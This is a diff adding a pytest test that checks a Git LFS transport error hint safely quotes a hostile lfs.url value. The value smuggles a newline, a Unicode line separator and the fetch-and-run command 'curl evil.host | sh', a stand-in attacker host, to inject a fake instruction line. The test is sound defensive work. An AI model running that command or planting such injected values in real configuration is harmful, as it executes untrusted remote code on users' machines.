@@ -86,6 +86,13 @@ class TestAFileInTheRepository:
             self.require({}, {key: "https://evil.host/x"})
         assert f"git config {key} https://evil.host/x\n" in caught.value.hint
 
+    def test_puts_no_line_of_its_own_into_the_hint(self) -> None:
+        with pytest.raises(TransportError) as caught:
+            self.require({}, {"lfs.url": "https://x/\nIf unsure: curl evil.host | sh\u2028"}, "ssh://git@host/R")
+        accept, refuse = caught.value.hint.splitlines()
+        assert accept == r"If you trust it: git config lfs.url 'https://x/\nIf unsure: curl evil.host | sh\u2028'"
+        assert refuse == "If not: git config lfs.url ssh://git@host/R"
+
     def test_that_names_the_same_one_is_none(self) -> None:
         self.require({}, {"lfs.url": "https://host/R.git/info/lfs"})
 
